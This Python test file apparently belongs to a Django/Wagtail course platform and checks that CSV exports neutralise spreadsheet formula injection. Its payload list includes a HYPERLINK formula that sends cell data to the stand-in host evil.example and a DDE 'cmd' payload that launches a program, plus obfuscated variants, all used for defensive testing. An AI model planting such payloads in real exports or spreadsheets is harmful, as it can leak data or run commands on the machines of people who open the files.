"""A file for a spreadsheet holds text and no formula (T23, ASVS v5.0.0-1.2.10), whoever wrote the words in it."""

import csv
import io
from datetime import timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st

from courses.models import CoursePage, Question, Topic
from lms.exports import csv_rows, safe_cell
from tests.builders import a_program, a_published_course, an_administrator, an_author

FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1;"click")', "=cmd|' /C calc'!A1", "+1+1", "-2+3", "@SUM(1+1)",
            "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", '"=1+1', "\ufeff=1",
            "%0A=1", "|cmd", "\0=1")  # fmt: skip
FIRST = tuple("=+-@|%\t\r\n\0")


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("words", FORMULAS)
def test_a_formula_is_marked_as_text(words):
    cell = read("".join(csv_rows([["name", words]])))[0][1]
    assert cell == (words if words == '"=1+1' else "'" + words)


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_whatever_is_written_is_read_back_and_never_begins_as_a_formula(row):
    cells = read("".join(csv_rows([row])))[0]
    assert [cell.removeprefix("'") for cell in cells] == [text.removeprefix("'") for text in row]
    assert not any(cell.startswith(FIRST) or (cell.lstrip(" \u00a0\u200b\ufeff")[:1] in "=+-@＝＋－＠" and cell.strip(" \u00a0\u200b\ufeff")) for cell in cells)  # fmt: skip


def test_a_row_is_one_line_for_whoever_reads_it_and_quotes_hold():
    rows = [["a,b", 'say "so"', "two\nlines"], ["x", "y", "z"]]
    assert read("".join(csv_rows(rows))) == [["a,b", 'say "so"', "two\nlines"], ["x", "y", "z"]]


def test_numbers_stay_numbers_and_nothing_is_nothing():
    assert [safe_cell(value) for value in (-5, 1.5, None, True)] == [-5, 1.5, None, True]


@pytest.mark.django_db
@pytest.mark.parametrize("words", [*FORMULAS[:5], "＝1+1"])
def test_every_list_and_report_that_wagtail_exports_is_safe(signed_in, words):
    program = a_program()
    a_published_course(program, modules=1)
    admin, author = an_administrator(program), an_author(program)
    course = CoursePage.objects.get(locale__language_code="en")
    course.title = words
    course.save_revision(user=author, log_action=True).publish(user=admin, skip_permission_checks=True)
    course.locked, course.locked_by, course.locked_at = True, author, course.last_published_at - timedelta(days=1)
    course.save()
    Topic.objects.update(title=words)
    Question.objects.update(prompt_en=words)
    exported = 0
    for client in (signed_in(admin), signed_in(author)):
        for address in ("reports/site-history/", "reports/aging-pages/", "reports/locked/", "reports/workflow/",
                        "reports/workflow_tasks/", "reports/page-types-usage/", "court/", "program/", "invitation/",
                        "policyversion/", "agreement/", "topic/", "question/", "checkinform/"):  # fmt: skip
            response = client.get(f"/authoring/{address}?export=csv")
            if response.status_code != 200 or "csv" not in response.get("Content-Type", ""):
                continue
            cells = [cell for row in read(b"".join(response.streaming_content).decode()) for cell in row]
            exported += "'" + words in cells
            assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "＝"))] == []
    assert exported >= 2
